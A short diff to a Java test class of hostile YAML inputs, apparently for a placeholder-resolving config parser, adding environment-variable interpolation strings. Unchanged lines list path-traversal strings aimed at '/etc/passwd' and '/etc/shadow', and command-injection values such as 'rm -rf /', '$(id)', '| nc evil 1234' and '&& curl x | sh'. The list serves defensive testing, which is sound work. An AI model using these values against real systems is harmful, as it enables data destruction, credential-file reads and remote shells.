@@ -25,6 +25,7 @@ final class HostileYaml {
             "!custom x", "!!binary aGVsbG8=", "!!set {a, b}", "!!omap [a: 1]", "!<tag:yaml.org,2002:str> x",
             "${", "}", "${application.name}", "${admin.x.y}", "${steps.a.outputs.b}", "${terraform.out}", "$${x}",
             "${workflow.variables.v}", "${resources.db.password}", "${metadata.product}", "${ nested ${x} }",
+            "${env:HOME}", "${env:INNOMINATUS_UNSET_1}", "${env:9bad}", "${env:", "${env:}", "${env:A-B}",
             "../../etc/passwd", "/etc/shadow", "%2e%2e/%2e%2e/x", "..%2f..%2fx", "%252e%252e%252f", "..\\..\\x",
             "./k8s/../../../x", "C:\\Windows", "~/x", "a\u0000b", "file:///etc/passwd",
             "'; rm -rf / #", "$(id)", "`id`", "| nc evil 1234", "&& curl x | sh",
